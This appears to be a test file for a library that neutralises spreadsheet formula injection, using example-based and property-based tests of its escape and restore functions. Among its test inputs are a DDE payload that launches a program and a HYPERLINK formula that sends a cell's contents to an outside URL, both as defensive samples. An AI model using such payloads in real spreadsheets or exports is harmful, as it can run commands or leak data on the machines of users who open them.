import {assert, constantFrom, property, string} from 'fast-check'
import {describe, expect, it} from 'vitest'
import {neutralizeCell, restoreCell} from '../src/index.js'

const triggers = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']

describe('neutralizeCell', () => {
  it('should prefix an apostrophe to hostile values', () => {
    expect(neutralizeCell('=HYPERLINK("https://example.com/?x="&A1,"Click")')).toBe(`'=HYPERLINK("https://example.com/?x="&A1,"Click")`)
    expect(neutralizeCell("=cmd|' /C calc'!A0")).toBe(`'=cmd|' /C calc'!A0`)
    expect(neutralizeCell('+1')).toBe(`'+1`)
    expect(neutralizeCell('-2')).toBe(`'-2`)
    expect(neutralizeCell('@SUM(A1)')).toBe(`'@SUM(A1)`)
    expect(neutralizeCell('\t=1')).toBe(`'\t=1`)
    expect(neutralizeCell('\r=1')).toBe(`'\r=1`)
  })

  it('should prefix an apostrophe to fullwidth formula triggers', () => {
    expect(neutralizeCell('＝1+2')).toBe(`'＝1+2`)
    expect(neutralizeCell('＠SUM(A1)')).toBe(`'＠SUM(A1)`)
  })

  it('should leave a `-` (or any trigger) inside a value alone', () => {
    expect(neutralizeCell('Jean-Luc Amadou-Vance')).toBe('Jean-Luc Amadou-Vance')
    expect(neutralizeCell('Minister = Head of Ministry')).toBe('Minister = Head of Ministry')
    expect(neutralizeCell('a@example.org')).toBe('a@example.org')
    expect(neutralizeCell(' =1')).toBe(' =1')
    expect(neutralizeCell('')).toBe('')
    expect(neutralizeCell('Ilvana Dárecz')).toBe('Ilvana Dárecz')
  })

  it('should remove NUL characters, then check the first character', () => {
    expect(neutralizeCell('Ilv\0ana')).toBe('Ilvana')
    expect(neutralizeCell('\0=1+2')).toBe(`'=1+2`)
    expect(neutralizeCell('\0\0')).toBe('')
  })

  it('should add one more apostrophe to a value that already looks neutralised', () => {
    expect(neutralizeCell(`'=1`)).toBe(`''=1`)
    expect(neutralizeCell(`'quoted'`)).toBe(`'quoted'`)
  })

  it('should never return a value that starts with a trigger or holds a NUL', () => {
    assert(
      property(constantFrom('', ...triggers, "'", "''"), string({unit: 'binary'}), (head, tail) => {
        const cell = neutralizeCell(head + tail)
        expect(triggers.includes(cell.charAt(0))).toBe(false)
        expect(cell.includes('\0')).toBe(false)
      })
    )
  })
})

describe('restoreCell', () => {
  it('should strip one apostrophe before a trigger', () => {
    expect(restoreCell(`'=HYPERLINK("x")`)).toBe('=HYPERLINK("x")')
    expect(restoreCell(`'-2`)).toBe('-2')
    expect(restoreCell(`'\t=1`)).toBe('\t=1')
    expect(restoreCell(`''=1`)).toBe(`'=1`)
  })

  it('should leave other values alone', () => {
    expect(restoreCell(`'quoted'`)).toBe(`'quoted'`)
    expect(restoreCell('=1')).toBe('=1')
    expect(restoreCell('plain')).toBe('plain')
  })

  it('should undo `neutralizeCell` for any value without NUL', () => {
    assert(
      property(constantFrom('', ...triggers, "'", "''", "'''"), string({unit: 'binary'}), (head, tail) => {
        const value = (head + tail).replaceAll('\0', '')
        expect(restoreCell(neutralizeCell(value))).toBe(value)
      })
    )
  })
})
